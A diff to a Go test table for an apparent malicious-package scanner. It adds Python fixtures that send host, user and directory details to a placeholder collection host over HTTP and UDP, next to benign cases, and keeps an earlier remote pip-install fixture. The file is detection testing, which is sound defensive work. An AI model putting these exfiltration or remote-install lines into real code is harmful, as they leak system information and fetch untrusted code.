@@ -31,6 +31,12 @@ func TestStagesAndProbes(t *testing.T) {
 			"import os\nos.system('pip install https://example.invalid/pkgs/helper-1.0.tar.gz')\n"}, "", Suspicious},
 		{"a dependency installed from its repository at install", map[string]string{"setup.py": "" +
 			"import os\nos.system('pip install git+https://github.com/example/dep.git@v1.2')\n"}, "", Clean},
+		{"host, user and directory sent from a script's top level", map[string]string{"tools/report.py": "" +
+			"import os, socket, getpass, requests\nrequests.get('https://collect.example.invalid/b', params={'h': socket.gethostname(), 'u': getpass.getuser(), 'cwd': os.getcwd()})\n"}, "exfiltrates-host-info", Malicious},
+		{"user and directory sent over UDP from a module's top level", map[string]string{"p/check.py": "" +
+			"import os, socket, getpass\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto((getpass.getuser() + '|' + os.getcwd()).encode(), ('collect.example.invalid', 53))\n"}, "exfiltrates-host-info", Malicious},
+		{"a script's top level looking up its own address and a status page", map[string]string{"tools/status.py": "" +
+			"import socket, requests\nip = socket.gethostbyname(socket.gethostname())\nprint(ip, requests.get('https://status.example.invalid/api').json())\n"}, "", Clean},
 		{"notepad opened on import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['notepad'])\n"}, "suspicious-command", Malicious},
 		{"an editor opened by a command of the tool", map[string]string{"p/cli.py": "" +
 			"import subprocess\ndef edit_config(path):\n    subprocess.call(['notepad', path])\n"}, "", Clean},
